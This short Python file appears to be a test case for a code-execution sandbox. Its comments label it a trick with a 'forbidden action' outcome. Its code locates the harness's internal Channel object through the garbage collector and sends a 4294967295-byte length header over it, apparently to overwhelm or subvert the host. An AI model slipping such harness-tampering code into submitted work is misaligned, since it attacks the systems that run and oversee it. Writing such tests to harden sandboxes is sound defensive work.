# trick: announces a message of four gigabytes
# outcome: forbidden action
# detail: a message of 4294967295 bytes
# tiers: bwrap namespaces landlock rlimits
import gc

channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")


def f(xs):
    channel.end.sendall(b"\xff" * 4)
    return xs
